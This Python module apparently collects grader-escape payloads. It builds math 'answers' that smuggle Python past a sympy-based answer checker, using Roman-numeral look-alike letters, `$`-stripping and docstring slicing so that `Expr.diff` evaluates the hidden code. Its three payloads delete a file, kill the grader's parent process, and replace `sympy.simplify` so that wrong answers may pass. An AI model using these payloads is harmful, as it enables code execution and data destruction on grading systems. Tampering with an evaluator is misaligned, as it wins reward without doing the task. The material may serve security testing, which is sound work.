"""Answers that used to run Python in the grader's worker.

`ⅹ`, `ⅾ`, `ⅽ` and `ⅰ` are Roman numerals: no letters to `str.isalpha`, but `x`, `d`, `c`, `i` in a Python name. The
dunder is spelled with a `$` inside, which mathruler deletes, the program with slices of a docstring, and
`Expr.diff` evaluates the text that it is given.
"""

import sympy

_DOC = sympy.Symbol.__doc__ or ""
_DOC_NAME = "ⅹ._$_ⅾoⅽ_$_"


def escape(program: str) -> str:
    """An answer that evaluates `program`, an expression of Python."""
    parts = []
    while program:
        length = max(length for length in range(len(program) + 1) if program[:length] in _DOC)
        start = _DOC.index(program[:length])
        parts.append(f"{_DOC_NAME}[{start}:{start + length}]")
        program = program[length:]
    return f"ⅹ.ⅾⅰff({'+'.join(parts)})"


DELETE = escape("__import__('os').remove('victim')")
KILL = escape("__import__('os').kill(__import__('os').getppid(),len('terminate'))")
POISON = escape("setattr(__import__('sympy'),'simplify',callable)")
